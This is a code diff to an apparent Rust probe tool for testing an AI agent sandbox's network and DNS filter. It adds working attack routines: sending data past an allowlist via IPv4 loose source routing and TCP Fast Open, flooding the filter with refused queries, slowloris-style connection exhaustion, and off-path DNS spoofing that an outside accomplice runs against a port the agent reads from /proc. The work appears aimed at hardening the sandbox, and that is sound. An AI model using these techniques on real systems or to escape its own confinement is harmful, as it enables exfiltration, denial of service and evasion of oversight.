@@ -30,6 +30,27 @@ pub fn main(args: &[String]) -> i32 {
             arg(2).parse().expect("FIRST-HOP"),
             arg(3).parse().expect("FINAL:PORT"),
         ),
+        "srr" => srr(
+            arg(1).parse().expect("FIRST-HOP"),
+            arg(2).parse().expect("FINAL:PORT"),
+            arg(3),
+        ),
+        "refusedflood" => refusedflood(
+            arg(1).parse().expect("SERVER:PORT"),
+            arg(2).parse().expect("N"),
+        ),
+        "tcpdribble" => tcpdribble(
+            arg(1).parse().expect("SERVER:PORT"),
+            arg(2).parse().expect("N"),
+            arg(3).parse().expect("SECS"),
+        ),
+        "spoofdns" => spoofdns(
+            arg(1).parse().expect("UPSTREAM"),
+            arg(2).parse().expect("VICTIM:PORT"),
+            arg(3),
+            arg(4).parse().expect("FORGED-IP"),
+            arg(5).parse().expect("SECS"),
+        ),
         "dnsraw" => dnsraw(arg(1).parse().expect("SERVER:PORT"), &args[2..]),
         "tcpflood" => tcpflood(
             arg(1).parse().expect("SERVER:PORT"),
@@ -179,6 +200,158 @@ fn rthdr(kind: u8, first: std::net::Ipv6Addr, last: SocketAddr) -> serde_json::V
     ));
     std::thread::sleep(Duration::from_millis(300));
     json!({"type": kind, "opt": opt, "connect": c})
+}
+
+/// IPv4's routing header: a loose source route option (IP_OPTIONS needs no
+/// privilege). The packet is addressed to `first`, an allowed host, and
+/// carries `last` as the final destination. With TCP Fast Open and no
+/// cookie (both settable without privilege) the SYN itself carries
+/// `payload`, so the data leaves even though no handshake can complete.
+fn srr(first: std::net::Ipv4Addr, last: SocketAddr, payload: &str) -> serde_json::Value {
+    // NOP, LSRR, length 7, pointer 4, one slot: the kernel takes the first
+    // hop from it and writes the connect address in as the last hop.
+    let mut o = vec![1u8, 131, 7, 4];
+    o.extend_from_slice(&first.octets());
+    let fd = socket(
+        AddressFamily::Inet,
+        SockType::Stream,
+        SockFlag::SOCK_NONBLOCK,
+        None,
+    )
+    .expect("socket");
+    let set = |level, name, v: &[u8]| match sbx_sys::setsockopt_bytes(fd.as_fd(), level, name, v) {
+        Ok(()) => "ok".to_owned(),
+        Err(e) => e.to_string(),
+    };
+    let opt = set(nix::libc::IPPROTO_IP, nix::libc::IP_OPTIONS, &o);
+    // TCP_FASTOPEN_CONNECT (30), TCP_FASTOPEN_NO_COOKIE (34).
+    let tfo = set(nix::libc::IPPROTO_TCP, 30, &1i32.to_ne_bytes())
+        + "/"
+        + &set(nix::libc::IPPROTO_TCP, 34, &1i32.to_ne_bytes());
+    let c = errno(connect(
+        std::os::fd::AsRawFd::as_raw_fd(&fd),
+        &SockaddrStorage::from(last),
+    ));
+    let mut stream = TcpStream::from(fd);
+    let w = if payload.is_empty() {
+        "none".to_owned()
+    } else {
+        match stream.write(payload.as_bytes()) {
+            Ok(n) => format!("{n}"),
+            Err(e) => e.to_string(),
+        }
+    };
+    std::thread::sleep(Duration::from_millis(1200));
+    json!({"opt": opt, "tfo": tfo, "connect": c, "write": w})
+}
+
+/// `n` queries for distinct names that are not on the allowlist, as fast as
+/// the filter answers; each refusal may write an audit record.
+fn refusedflood(server: SocketAddr, n: usize) -> serde_json::Value {
+    let s = UdpSocket::bind("0.0.0.0:0").expect("bind");
+    s.set_read_timeout(Some(Duration::from_millis(500)))
+        .expect("timeout");
+    let t = Instant::now();
+    let (mut answered, mut buf) = (0u64, [0u8; 1024]);
+    let pad = "x".repeat(40);
+    for i in 0..n {
+        let q = query(&format!("f{i}{pad}.exfil.example."), RecordType::A);
+        let _ = s.send_to(&q, server);
+        if s.recv(&mut buf).is_ok() {
+            answered += 1;
+        }
+    }
+    json!({"sent": n, "answered": answered, "secs": t.elapsed().as_secs_f64()})
+}
+
+/// Slow clients: `n` TCP connections that each announce a long frame and
+/// send one more byte of it every 3 s (under the filter's idle timeout),
+/// for `secs`; then an honest client asks over TCP.
+fn tcpdribble(server: SocketAddr, n: usize, secs: u64) -> serde_json::Value {
+    let mut conns: Vec<TcpStream> = (0..n)
+        .filter_map(|_| TcpStream::connect_timeout(&server, Duration::from_secs(2)).ok())
+        .collect();
+    for s in &mut conns {
+        let _ = s.write_all(&[0x01]);
+    }
+    let t = Instant::now();
+    while t.elapsed() < Duration::from_secs(secs) {
+        std::thread::sleep(Duration::from_secs(3));
+        for s in &mut conns {
+            let _ = s.write_all(&[0x00]);
+        }
+    }
+    let held = conns
+        .iter()
+        .filter(|s| {
+            let mut s: &TcpStream = s;
+            s.write_all(&[0]).is_ok()
+        })
+        .count();
+    let q = query("allowed.test", RecordType::A);
+    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
+    framed.extend_from_slice(&q);
+    let honest = TcpStream::connect_timeout(&server, Duration::from_secs(2)).and_then(|mut s| {
+        s.set_read_timeout(Some(Duration::from_secs(3)))?;
+        s.write_all(&framed)?;
+        let mut len = [0u8; 2];
+        s.read_exact(&mut len)?;
+        Ok(u16::from_be_bytes(len))
+    });
+    json!({"opened": n, "held": held, "honest": match honest {
+        Ok(len) => format!("answered ({len} bytes)"),
+        Err(e) => e.to_string(),
+    }})
+}
+
+/// The outside accomplice (root, off the path, able to forge its source):
+/// answers for `name` with `forged`, from the upstream resolver's address
+/// and port to the DNS filter's upstream socket, cycling through all 65536
+/// query ids for `secs`. The filter's socket, and so its port, lives as
+/// long as the filter; the agent reads it from /proc/net/udp.
+fn spoofdns(
+    upstream: std::net::Ipv4Addr,
+    victim: SocketAddr,
+    name: &str,
+    forged: std::net::Ipv4Addr,
+    secs: u64,
+) -> serde_json::Value {
+    let fd = socket(
+        AddressFamily::Inet,
+        SockType::Datagram,
+        SockFlag::empty(),
+        None,
+    )
+    .expect("socket");
+    setsockopt(&fd, sockopt::IpTransparent, &true).expect("IP_TRANSPARENT (run as root)");
+    bind(
+        std::os::fd::AsRawFd::as_raw_fd(&fd),
+        &SockaddrStorage::from(SocketAddr::new(upstream.into(), 53)),
+    )
+    .expect("bind");
+    let s = UdpSocket::from(fd);
+    let mut m = Message::new(0, MessageType::Response, OpCode::Query);
+    m.metadata.recursion_desired = true;
+    m.metadata.recursion_available = true;
+    let n = Name::from_ascii(format!("{name}.")).expect("name");
+    m.add_query(Query::query(n.clone(), RecordType::A));
+    m.add_answer(hickory_proto::rr::Record::from_rdata(
+        n,
+        300,
+        hickory_proto::rr::RData::A(forged.into()),
+    ));
+    let mut pkt = m.to_vec().expect("encode");
+    let t = Instant::now();
+    let mut sent = 0u64;
+    while t.elapsed() < Duration::from_secs(secs) {
+        for id in 0..=u16::MAX {
+            pkt[..2].copy_from_slice(&id.to_be_bytes());
+            if s.send_to(&pkt, victim).is_ok() {
+                sent += 1;
+            }
+        }
+    }
+    json!({"sent": sent})
 }
 
 /// Send each hex-encoded packet over UDP; report the reply's rcode.
